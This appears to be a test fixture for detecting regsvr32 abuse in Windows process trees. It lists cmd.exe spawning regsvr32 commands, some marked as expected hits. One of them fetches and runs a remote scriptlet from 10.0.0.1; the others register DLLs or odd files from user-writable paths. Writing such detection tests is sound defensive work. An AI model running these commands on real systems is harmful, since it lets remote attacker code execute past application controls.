os windows
101 1 ana - C:\Windows\explorer.exe | C:\Windows\explorer.exe
102 101 ana - C:\Windows\System32\cmd.exe | C:\Windows\System32\cmd.exe
+ 103 102 ana - C:\Windows\System32\regsvr32.exe | regsvr32 /s /n /u /i:http://10.0.0.1/a.sct scrobj.dll
+ 104 102 ana - C:\Windows\System32\regsvr32.exe | regsvr32.exe /s C:\Users\ana\AppData\Roaming\x.dll
+ 105 102 ana - C:\Windows\System32\regsvr32.exe | regsvr32 -s C:\ProgramData\a.ocx
+ 106 102 ana - C:\Windows\System32\regsvr32.exe | regsvr32 C:\data\photo.jpg
